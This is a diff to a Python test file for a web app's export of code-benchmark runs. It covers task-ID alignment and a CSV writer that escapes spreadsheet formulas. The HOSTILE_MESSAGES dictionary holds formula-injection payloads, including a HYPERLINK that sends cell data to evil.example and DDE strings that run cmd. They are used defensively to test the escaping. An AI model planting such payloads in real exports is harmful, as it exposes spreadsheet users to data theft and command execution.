@@ -9,6 +9,7 @@ import json
 
 from tests.webapp.support import client_for
 from webapp.runs.exports import MATRIX_COLUMNS, export_name
+from webapp.spreadsheet_csv import SpreadsheetCsvWriter
 
 
 def _body(response) -> str:
@@ -53,7 +54,7 @@ def test_humaneval_results_jsonl_is_in_file_order_with_result_and_passed(persona
     assert 'filename="alpha_results.jsonl"' in response["Content-Disposition"]
     lines = [json.loads(line) for line in _body(response).splitlines()]
     assert [line["task_id"] for line in lines] == ["HumanEval/0", "HumanEval/1", "HumanEval/2"]
-    assert set(lines[0]) == {"task_id", "completion", "result", "passed"}
+    assert set(lines[0]) == {"task_id", "aligned_task_id", "completion", "result", "passed"}
     assert lines[0]["result"] == "passed"
     assert lines[0]["passed"] is True
     assert lines[1]["result"].startswith("failed: ")
@@ -63,3 +64,79 @@ def test_humaneval_results_jsonl_is_in_file_order_with_result_and_passed(persona
 def test_export_names_are_safe_for_a_header(runs):
     runs.a.file_name = 'we"ird name.jsonl.gz'
     assert export_name(runs.a, "_results.jsonl") == "we_ird_name_results.jsonl"
+
+
+# Cells a spreadsheet would run as a formula (OWASP's list of leading characters).
+HOSTILE_MESSAGES = {
+    "HumanEval/0": '=HYPERLINK("http://evil.example/?x="&A1, "details")',
+    "HumanEval/1": "+cmd|' /C calc'!A0",
+    "HumanEval/2": "-2+3+cmd|' /C calc'!A0",
+    "HumanEval/3": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "HumanEval/4": "\t=1+1",
+    "HumanEval/5": "\r=1+1",
+}
+
+
+def test_csv_neutralises_formulas_in_messages_from_tested_code(personas, make_run):
+    run = make_run([{"task_id": task_id, "completion": f"    raise ValueError({message!r})\n"}
+                    for task_id, message in HOSTILE_MESSAGES.items()], name="hostile")
+    response = client_for(personas.owner).get(f"/runs/{run.pk}/export/matrix.csv")
+    rows = list(csv.DictReader(io.StringIO(_body(response), newline="")))
+    assert {row["task_id"] for row in rows} == set(HOSTILE_MESSAGES)
+    for row in rows:
+        assert row["test_message"] == "'" + HOSTILE_MESSAGES[row["task_id"]]
+        # Numbers stay numbers: only text is escaped.
+        assert float(row["test_duration_ms"]) >= 0
+        assert row["completion_id"] == "0"
+        assert row["test_index"].isdigit()
+
+
+def test_csv_leaves_harmless_text_and_real_numbers_alone():
+    buffer = io.StringIO()
+    writer = SpreadsheetCsvWriter(buffer)
+    writer.writerow(["ok = 1", "", None, -0.5, -3, True, "-0.5", "+2e-3", "=1+1", "-1+1",
+                     "-0.5)", "@1"])
+    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [
+        "ok = 1", "", "", "-0.5", "-3", "True", "-0.5", "+2e-3", "'=1+1", "'-1+1", "'-0.5)",
+        "'@1"]
+
+
+# HumanEval-X's own ids, out of order and repeated, and odd forms the reader accepts.
+SOURCE_IDS = ["Python/23", "Python/0", "Python/2", "Python/23", " python/0 ", "Python/002",
+              "HumanEval_23_strlen", "Python/\u0662", "\tPython/0\n"]
+ALIGNED_IDS = ["HumanEval/23", "HumanEval/0", "HumanEval/2", "HumanEval/23", "HumanEval/0",
+               "HumanEval/2", "HumanEval/23", "HumanEval/2", "HumanEval/0"]
+GENERATIONS = [f"    return None  # {number}\n" for number in range(len(SOURCE_IDS))]
+
+
+def _sample_order(rows) -> list[tuple[str, str, str]]:
+    """(task_id, aligned_task_id, completion_id) of each sample, from one row per test."""
+    return list(dict.fromkeys(
+        (row["task_id"], row["aligned_task_id"], row["completion_id"]) for row in rows))
+
+
+def test_exports_keep_the_files_task_ids(personas, make_run, humaneval_x_python):
+    run = make_run([{"task_id": raw, "generation": text}
+                    for raw, text in zip(SOURCE_IDS, GENERATIONS, strict=True)],
+                   name="codegeex", dataset=humaneval_x_python)
+    client = client_for(personas.owner)
+
+    body = _body(client.get(f"/runs/{run.pk}/export/results.jsonl"))
+    lines = [json.loads(line) for line in body.split("\n")[:-1]]
+    assert [line["task_id"] for line in lines] == SOURCE_IDS
+    assert [line["aligned_task_id"] for line in lines] == ALIGNED_IDS
+    # The join a researcher makes with the generation file matches every line.
+    assert [(line["task_id"], line["completion"]) for line in lines] == list(
+        zip(SOURCE_IDS, GENERATIONS, strict=True))
+
+    data = json.loads(_body(client.get(f"/runs/{run.pk}/export/matrix.json")))
+    assert [(p["task_id"], p["aligned_task_id"]) for p in data["problems"]
+            for _ in p["samples"]] == list(zip(SOURCE_IDS, ALIGNED_IDS, strict=True))
+    assert all(s["tests"] for p in data["problems"] for s in p["samples"])
+
+    csv_text = _body(client.get(f"/runs/{run.pk}/export/matrix.csv"))
+    rows = list(csv.DictReader(io.StringIO(csv_text, newline="")))
+    # A cell that starts with a tab gets the spreadsheet guard `'`, like every such text cell.
+    expected = [raw if not raw.startswith("\t") else "'" + raw for raw in SOURCE_IDS]
+    assert [(task, aligned) for task, aligned, _ in _sample_order(rows)] == list(
+        zip(expected, ALIGNED_IDS, strict=True))
